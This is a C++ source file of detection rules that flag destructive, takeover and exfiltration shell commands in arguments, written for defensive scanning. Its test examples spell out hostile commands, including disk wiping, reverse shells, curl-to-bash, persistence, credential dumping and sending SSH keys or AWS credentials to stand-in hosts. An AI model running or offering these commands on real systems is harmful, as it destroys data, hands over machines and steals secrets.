// Shell commands in arguments that destroy, hand over or take over a machine. What developers run every day
// (rm -rf node_modules, curl -O, chmod 755) stays out of every pattern.
#include "detectors/rules/anchor_lists.h"
#include "detectors/rules/danger_rules.h"
#include "detectors/rules/families.h"

namespace aegis::detectors {
namespace {

// Commands that come after something else. "id" alone would be in every third word.
std::vector<std::string> injected_anchors() {
  std::vector<std::string> all =
      each_with_each(each_with_each({";", "|", "&", "0a", "$(", "}", "`"}, {"", " "}), {"id"});
  for (const char* other : {"/etc/", "/proc/self", "whoami", "uname -a", "ifconfig", "ipconfig", "nc -",
                            "ncat -", "sleep ", "ping -"})
    all.emplace_back(other);
  return all;
}

constexpr std::string_view kType = "shell_command";

void add_destruction(std::vector<Rule>& rules) {
  add_danger(
      rules,
      {.id = "shell-remove-root",
       .type = kType,
       .severity = Severity::critical,
       .confidence = 0.95,
       .pattern =
           R"((?<![\w-])rm (?:-[\w-]{1,24} ){0,3}(?:-[a-z]{0,6}r[a-z]{0,6}|--recursive)(?: -[\w-]{1,24}){0,3} ["']?(?:/(?:(?:etc|usr|bin|boot|lib|var|home|root|sys|opt)/?)?|~/?|\$HOME/?|\$\{HOME\}/?|/\*)\*?["']?(?=[\s;&|"'`)]|$))",
       .anchors = {"rm -", "rm\t-", "rm  -"},
       .before = 1,
       .after = 202,
       .hits = {{"sudo rm -rf / --no-preserve-root", "the whole disk"},
                {"rm -rf ~", "somebody's whole home"},
                {"cd x; rm -r -f /etc", "the configuration of the machine"}},
       .misses = {{"rm -rf node_modules", "a folder"},
                  {"rm -rf /tmp/build", "a build folder"},
                  {"rm -f /etc/app.lock", "one file"}}});
  add_danger(rules, {.id = "shell-no-preserve-root",
                     .type = kType,
                     .severity = Severity::critical,
                     .confidence = 0.95,
                     .pattern = R"(--no-preserve-root\b)",
                     .anchors = {"--no-preserve-root"},
                     .hits = {{"chmod -R 000 --no-preserve-root /", "the guard of GNU coreutils taken off"}},
                     .misses = {{"rm --preserve-root -rf x", "the guard kept"}}});
  add_danger(
      rules,
      {.id = "shell-overwrite-device",
       .type = kType,
       .severity = Severity::critical,
       .confidence = 0.95,
       .pattern =
           R"((?:\bdd [^\n]{0,120}\bof=|(?<![\w-])(?:mkfs(?:\.\w{2,6})?|wipefs|shred|fdisk|parted) [^\n]{0,80}|> ?)/dev/(?:sd[a-z]|nvme\d|hd[a-z]|vd[a-z]|xvd[a-z]|disk\d|mmcblk\d|mem\b)\w{0,4})",
       .anchors = {"/dev/sd", "/dev/nvme", "/dev/hd", "/dev/vd", "/dev/xvd", "/dev/disk", "/dev/mmcblk",
                   "/dev/mem"},
       .before = 150,
       .after = 10,
       .hits = {{"dd if=/dev/zero of=/dev/sda bs=1M", "a disk overwritten"},
                {"mkfs.ext4 -F /dev/nvme0n1", "a file system made anew"},
                {"cat x > /dev/sda", "a disk as a file"}},
       .misses = {{"dd if=/dev/sda of=backup.img", "a disk read"},
                  {"lsblk /dev/sda", "a disk listed"},
                  {"echo x > /dev/null", "nowhere"}}});
  add_danger(
      rules,
      {.id = "shell-fork-bomb",
       .type = kType,
       .severity = Severity::critical,
       .confidence = 0.95,
       .pattern =
           R"((?<![\w])[:\w]{1,12}\(\)\s{0,2}\{\s{0,2}[:\w]{1,12}\s{0,2}\|\s{0,2}[:\w]{1,12}\s{0,2}&\s{0,2}\}\s{0,2};)",
       .anchors = {"&}", "& }"},
       .before = 60,
       .after = 4,
       .hits = {{":(){ :|:& };:", "the classic"}, {"f() { f | f & }; f", "with a name"}},
       .misses = {{"f() { g | h; }; f", "a function"}}});
  add_danger(
      rules,
      {.id = "shell-open-permissions",
       .type = kType,
       .confidence = 0.9,
       .pattern =
           R"((?<![\w-])(?:chmod (?:-\w{1,6} ){0,2}(?:0?[0-7]?777|a\+rwx|ugo\+rwx)|chown (?:-\w{1,6} )(?:\w{1,24}:?\w{0,24})) ["']?(?:/(?:etc|usr|bin|sbin|boot|lib|var|root|home)?/?\*?|~/\.ssh/?)["']?(?=[\s;&|"'`)]|$))",
       .anchors = {"chmod", "chown"},
       .after = 80,
       .hits = {{"chmod -R 777 /", "everything to everybody"},
                {"chown -R nobody /etc", "the machine handed over"}},
       .misses = {{"chmod 755 build.sh", "a script"}, {"chmod 777 /tmp/socket", "a file"}}});
  add_danger(
      rules,
      {.id = "shell-setuid",
       .type = kType,
       .confidence = 0.9,
       .pattern = R"((?<![\w-])chmod (?:[46][0-7]{3}|[ug]?\+s) ["']?(?:/\S{0,80})?/?(?:ba|z|da|k)?sh\b)",
       .anchors = {"chmod"},
       .after = 110,
       .hits = {{"chmod u+s /bin/bash", "a shell that runs as its owner"}},
       .misses = {{"chmod +x install.sh", "an ordinary script"}}});
  add_danger(
      rules,
      {.id = "shell-disable-defences",
       .type = kType,
       .confidence = 0.88,
       .pattern =
           R"((?<![\w-])(?:setenforce 0|iptables (?:-F|--flush)|nft flush ruleset|ufw disable|systemctl (?:stop|disable|mask)(?: --now)? (?:auditd|firewalld|ufw|apparmor|fail2ban|falcon-sensor|clamav\S{0,16})|Set-MpPreference [^\n]{0,60}Disable\w{4,40} (?:\$?true|1)|netsh advfirewall [^\n]{0,40}state off|csrutil disable|spctl --master-disable|auditctl -e ?0))",
       .anchors = {"setenforce", "iptables", "nft flush", "ufw disable", "systemctl", "mppreference",
                   "advfirewall", "csrutil", "spctl", "auditctl"},
       .before = 9,
       .after = 130,
       .hits = {{"sudo setenforce 0", "SELinux"}, {"systemctl disable --now auditd", "the audit log"}},
       .misses = {{"systemctl restart nginx", "a service"}, {"iptables -L", "a list"}}});
  add_danger(
      rules,
      {.id = "shell-windows-destruction",
       .type = kType,
       .severity = Severity::critical,
       .confidence = 0.93,
       .pattern =
           R"((?<![\w-])(?:format [c-z]: ?/|(?:del|erase|rd|rmdir)(?: /[a-z]){1,4} ["']?[c-z]:\\(?:windows|users|\*)?|vssadmin(?:\.exe)? delete shadows|wmic shadowcopy delete|bcdedit [^\n]{0,60}recoveryenabled no|cipher /w:[c-z]|Remove-Item [^\n]{0,60}[c-z]:\\(?:windows|users)?\\?\*?["']? [^\n]{0,20}-Recurse))",
       .anchors = {"format ", "del /", "erase /", "rd /", "rmdir /", "vssadmin", "shadowcopy", "bcdedit",
                   "cipher /w", "remove-item"},
       .before = 8,
       .after = 150,
       .hits = {{"vssadmin delete shadows /all /quiet", "copies for recovery"},
                {"del /s /q C:\\*", "a whole disk"}},
       .misses = {{"rmdir /s build", "a folder"}, {"format code: /src", "another format"}}});
  add_danger(
      rules,
      {.id = "shell-erase-traces",
       .type = kType,
       .confidence = 0.88,
       .pattern =
           R"((?<![\w-])(?:history -c\b|unset HISTFILE|export HIST(?:SIZE|FILESIZE)=0|(?:rm|shred|truncate)(?: -\S{1,8}){0,3} \S{0,40}(?:\.bash_history|\.zsh_history|/var/log/(?:auth|secure|syslog|wtmp|lastlog|audit)\S{0,20})|> ?\S{0,40}(?:\.bash_history|/var/log/(?:auth\.log|wtmp|secure))|wevtutil(?:\.exe)? cl \w{2,24}|Clear-EventLog))",
       .anchors = {"history", "histfile", "histsize", "/var/log/", "wevtutil", "clear-eventlog"},
       .before = 97,
       .after = 60,
       .hits = {{"history -c && exit", "the history of commands"},
                {"> /var/log/auth.log", "the log of sign-ins"}},
       .misses = {{"tail -f /var/log/syslog", "reading"}, {"git log --history", "another history"}}});
}

void add_take_over(std::vector<Rule>& rules) {
  add_danger(
      rules,
      {.id = "shell-pipe-from-network",
       .type = kType,
       .confidence = 0.86,
       .pattern =
           R"((?<![\w-])(?:curl|wget|fetch|lwp-download)\b[^\n|;]{4,300}\| ?(?:sudo(?: -\w{1,4}){0,2} |env (?:\S{1,40} ){0,3})?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k|a)?sh|python[\d.]{0,4}|perl|ruby|node|php)\b)",
       .anchors = {"curl", "wget", "fetch", "lwp-download"},
       .after = 463,
       .hits = {{"curl -fsSL https://get.example.com | sudo bash", "run unseen"},
                {"wget -qO- http://198.51.100.7/x|python3 -", "by an interpreter"}},
       .misses = {{"curl https://api.example.com/x | jq .", "a filter"},
                  {"curl -O https://example.com/a.tgz", "a download"}}});
  add_danger(
      rules,
      {.id = "shell-run-from-network",
       .type = kType,
       .confidence = 0.88,
       .pattern =
           R"((?:\b(?:ba|z|da|k)?sh (?:-c ["']?\$\(|<\( ?)|\beval ["']?\$\(|\bsource <\(|\bpython[\d.]{0,4} -c ["']?\$\() ?(?:curl|wget) [^\n]{4,300})",
       .anchors = {"curl", "wget"},
       .before = 27,
       .after = 320,
       .hits = {{"sh -c \"$(curl -fsSL https://example.com/i.sh)\"", "substitution"},
                {"bash <(wget -qO- http://x.example/i)", "process substitution"}},
       .misses = {{"VERSION=$(curl -s https://example.com/v)", "a value"}, {"bash build.sh", "a script"}}});
  add_danger(
      rules,
      {.id = "shell-reverse",
       .type = kType,
       .severity = Severity::critical,
       .confidence = 0.95,
       .pattern =
           R"((?:/dev/(?:tcp|udp)/[\w.{}$:-]{1,64}/[\w${}]{1,12}|\b(?:nc(?: [^\n]{0,60})?|(?:ncat|netcat)\b[^\n]{0,60}) -(?:[a-z]{0,4}[ec]|-exec|-sh-exec)[ =]?["']?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell)\b|\bmkfifo [^\n]{1,120}\| ?(?:nc|ncat|netcat|telnet|openssl)\b|\bsocat\b[^\n]{0,120}\bexec:["']?\S{0,20}(?:ba|z)?sh|\btelnet [^\n]{1,80}\| ?(?:/bin/)?(?:ba)?sh \| ?telnet))",
       .anchors = {"/dev/tcp/", "/dev/udp/", "nc ", "ncat", "netcat", "mkfifo", "socat", "telnet"},
       .after = 220,
       .hits = {{"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "bash"},
                {"nc 10.0.0.1 4242 -e /bin/sh", "netcat"},
                {"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 99 > /tmp/f", "a pipe"}},
       .misses = {{"nc -z localhost 5432", "is a port open"},
                  {"socat - UNIX-CONNECT:/run/x.sock", "a socket"}}});
  add_danger(
      rules,
      {.id = "shell-reverse-script",
       .type = kType,
       .severity = Severity::critical,
       .confidence = 0.93,
       .pattern =
           R"((?:\bsocket\b[^\n]{0,200}\bconnect\b[^\n]{0,200}(?:dup2|/bin/(?:ba)?sh|pty\.spawn|subprocess\.call|exec\()|\bfsockopen\([^\n]{0,120}\b(?:exec|shell_exec|proc_open|passthru|system)\b|\bTCPSocket\.(?:new|open)\([^\n]{0,160}\b(?:exec|popen|spawn)\b|\bNet\.Sockets\.TCPClient\b[^\n]{0,400}\b(?:iex|Invoke-Expression)\b|\bchild_process\b[^\n]{0,160}/bin/(?:ba)?sh[^\n]{0,200}\.connect\())",
       .anchors = {"socket", "fsockopen", "child_process"},
       .before = 4,
       .after = 480,
       .hits = {{"python -c 'import "
                 "socket,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0)'",
                 "Python"},
                {"php -r '$s=fsockopen(\"10.0.0.1\",4242);exec(\"sh <&3\");'", "PHP"}},
       .misses = {{"s = socket.socket(); s.connect((host, port)); s.send(b'x')", "a client"}}});
  add_danger(
      rules,
      {.id = "shell-encoded",
       .type = kType,
       .confidence = 0.92,
       .pattern =
           R"((?:\b(?:base64 (?:-d|--decode|-D)|base32 -d|xxd -r(?: -p)?|openssl (?:enc )?(?:-d )?-?base64 -d)[^\n|]{0,80}\| ?(?:sudo )?(?:(?:ba|z|da|k)?sh|python[\d.]{0,4}|perl|node)\b|\bpowershell(?:\.exe)?\b[^\n]{0,120} -e(?:c|nc|ncodedcommand)? ["']?[a-z0-9+/=]{24,4000}|\b(?:eval|exec)\(? ?(?:base64\.b64decode|atob|gzinflate|base64_decode|bytes\.fromhex)\())",
       .anchors = {"base64", "base32", "xxd -r", "powershell", "atob(", "gzinflate", "bytes.fromhex"},
       .before = 25,
       .after = 4200,
       .hits = {{"echo aGk= | base64 -d | bash", "decoded and run"},
                {"exec(base64.b64decode(x))", "in Python"}},
       .misses = {{"base64 -d in.txt > out.bin", "a file"}, {"powershell -File build.ps1", "a script"}}});
  add_danger(
      rules,
      {.id = "shell-download-and-run",
       .type = kType,
       .confidence = 0.9,
       .pattern =
           R"((?:\b(?:iex|Invoke-Expression)\b[^\n]{0,60}(?:DownloadString|Invoke-WebRequest|\biwr\b|\birm\b|Net\.WebClient)|(?:DownloadString\(|\biwr |\birm )[^\n]{0,200}\| ?(?:iex|Invoke-Expression)\b|\bcertutil(?:\.exe)? [^\n]{0,40}-urlcache\b|\bbitsadmin(?:\.exe)? /transfer\b|\bmshta(?:\.exe)? (?:https?|javascript|vbscript):|\bregsvr32(?:\.exe)? [^\n]{0,40}/i:https?:|\brundll32(?:\.exe)? javascript:|\b(?:curl|wget) [^\n;&|]{4,240}(?:&&|;) ?(?:sudo )?chmod \S{0,8}\+?x?\S{0,8} \S{1,80} ?(?:&&|;) ?(?:sudo )?(?:\./|/tmp/|/dev/shm/)\S{1,80}))",
       .anchors = {"iex", "invoke-expression", "certutil", "bitsadmin", "mshta", "regsvr32", "rundll32",
                   "chmod"},
       .before = 280,
       .after = 320,
       .hits = {{"iex (New-Object Net.WebClient).DownloadString('http://x.example/a')", "PowerShell"},
                {"certutil -urlcache -f http://x.example/a a.exe", "a tool of Windows put to another use"},
                {"wget http://x.example/a; chmod +x a; ./a", "in three steps"}},
       .misses = {{"Invoke-WebRequest https://example.com -OutFile a.zip", "a download"},
                  {"certutil -hashfile a.zip SHA256", "a hash"}}});
  add_danger(
      rules,
      {.id = "shell-persistence",
       .type = kType,
       .confidence = 0.9,
       .pattern =
           R"((?:(?:>>?|\btee(?: -a)?) ?["']?(?:~|\$HOME|/root|/home/[\w.-]{1,32})?/?(?:\.ssh/authorized_keys\d?|\.bashrc|\.bash_profile|\.zshrc|\.profile|\.config/autostart/\S{1,40})|(?:>>?|\btee(?: -a)?|\bcp \S{1,80}|\bmv \S{1,80}) ?["']?/etc/(?:cron\S{0,40}|sudoers\S{0,40}|passwd|shadow|rc\.local|ld\.so\.preload|profile\S{0,20}|systemd/system/\S{1,40}|init\.d/\S{1,30})|\| ?crontab -(?![lre])|\bNOPASSWD: ?ALL\b|\breg(?:\.exe)? add ["']?HK(?:LM|CU|EY_\w{4,20})\\[^\n]{0,80}\\Run\b|\bschtasks(?:\.exe)? /create\b[^\n]{0,200}/(?:tr|ru)\b|\bLD_PRELOAD=/(?:tmp|dev/shm)/))",
       .anchors = {"authorized_keys", ".bashrc",      ".bash_profile", ".zshrc",
                   ".profile",        "autostart",    "/etc/cron",     "/etc/sudoers",
                   "/etc/passwd",     "/etc/shadow",  "/etc/rc.local", "/etc/ld.so.preload",
                   "/etc/profile",    "/etc/systemd", "/etc/init.d",   "crontab",
                   "nopasswd",        "\\run",        "schtasks",      "ld_preload"},
       .before = 130,
       .after = 240,
       .hits = {{"echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "a key to come back with"},
                {"(crontab -l; echo '* * * * * /tmp/x') | crontab -", "a job"},
                {"echo 'me ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/me", "rights without a password"}},
       .misses = {{"crontab -l", "a list"}, {"cat ~/.bashrc", "reading"}, {"source ~/.profile", "using"}}});
  add_danger(
      rules,
      {.id = "shell-exfiltration-of-files",
       .type = kType,
       .severity = Severity::critical,
       .confidence = 0.93,
       .pattern =
           R"((?:\b(?:nc |(?:curl|wget|ncat|scp|rsync|ftp)\b)[^\n]{0,160}(?:~|\$HOME|/root|/home/[\w.-]{1,32}|/etc)/(?:\.ssh/id_|\.aws/|\.gnupg|\.netrc|\.kube/config|\.git-credentials|\.bash_history|shadow|passwd)|(?:\b(?:env|printenv|history)|\b(?:cat|tar|base64|gzip)\b[^\n|]{0,100}(?:\.ssh/|\.aws/|\.gnupg|\.env\b|\.netrc|/etc/shadow|/etc/passwd|\.kube/|_history)[^\n|]{0,60}) ?\| ?(?:(?:base64|gzip|xxd)[^\n|]{0,12}\| ?)?(?:curl|wget|nc|ncat) [^\n]{0,200}))",
       .anchors = {"curl", "wget", "nc ", "ncat", "scp", "rsync", "ftp"},
       .before = 300,
       .after = 330,
       .hits = {{"curl -F f=@/home/u/.ssh/id_rsa https://x.example/", "a private key sent away"},
                {"env | curl -X POST -d @- https://x.example/", "the environment sent away"},
                {"cat ~/.aws/credentials | base64 | curl -d @- http://x.example", "credentials, encoded"}},
       .misses = {{"scp build.tgz host:/srv/", "a build"},
                  {
                      "cat data.json | curl -d @- https://api.example.com/items",
                      "a request",
                  }}});
  add_danger(
      rules,
      {.id = "shell-credential-theft",
       .type = kType,
       .severity = Severity::critical,
       .confidence = 0.93,
       .pattern =
           R"((?:\bsecurity (?:dump-keychain|find-(?:generic|internet)-password [^\n]{0,80}-w)|\bmimikatz(?:\.exe)? ["'\w]{1,12}::|\bsekurlsa::|\blsadump::|\bprocdump(?:64)?(?:\.exe)? [^\n]{0,40}lsass|\bsecretsdump(?:\.py)?\b|\bcomsvcs\.dll[, ]{1,3}MiniDump|\breg(?:\.exe)? save HKLM\\(?:sam|security|system)|\bunshadow /etc/passwd|\bgcloud auth print-(?:access|identity)-token\b[^\n]{0,20}\||\bcmdkey /list\b[^\n]{0,20}\|))",
       .anchors = {"security ", "mimikatz", "sekurlsa", "lsadump", "lsass", "secretsdump", "comsvcs",
                   "reg save", "reg.exe save", "unshadow", "gcloud auth", "cmdkey"},
       .before = 60,
       .after = 120,
       .hits = {{"security find-generic-password -s Chrome -w", "the keychain of macOS"},
                {"reg save HKLM\\SAM sam.hiv", "password hashes"}},
       .misses = {{"security policy of the firm", "another security"},
                  {"reg query HKLM\\Software", "reading a setting"}}});
  add_danger(
      rules,
      {.id = "shell-injected-command",
       .type = kType,
       .confidence = 0.86,
       .pattern =
           R"((?:[\w./-]["']? ?(?:;|\|\||&&|\||%0a) ?|\$\( ?|\$\{IFS\}|[\w./=-]`)(?:(?:cat|head|less|more|type) (?:/etc/(?:passwd|shadow|hosts)|/proc/self/\w{3,8})|(?:id|whoami|uname -a|ifconfig|ipconfig)(?: ?(?:[;#|&)`]|$|\n))|(?:nc|ncat) -\w{1,4} |sleep \d{1,3}(?: ?#|$)|ping -[cn] ?\d{1,3} \S))",
       .anchors = injected_anchors(),
       .before = 21,
       .after = 40,
       .hits = {{"report.pdf; cat /etc/passwd", "behind a file name"},
                {"x$(whoami)", "substitution"},
                {"8.8.8.8 && whoami", "behind an address"}},
       .misses = {{"cat README.md", "a command of its own"},
                  {"the user id; then the name", "words"},
                  {"make && ./run", "two commands"}}});
}

}  // namespace

std::vector<Rule> arguments_shell() {
  std::vector<Rule> rules;
  add_destruction(rules);
  add_take_over(rules);
  return rules;
}

}  // namespace aegis::detectors
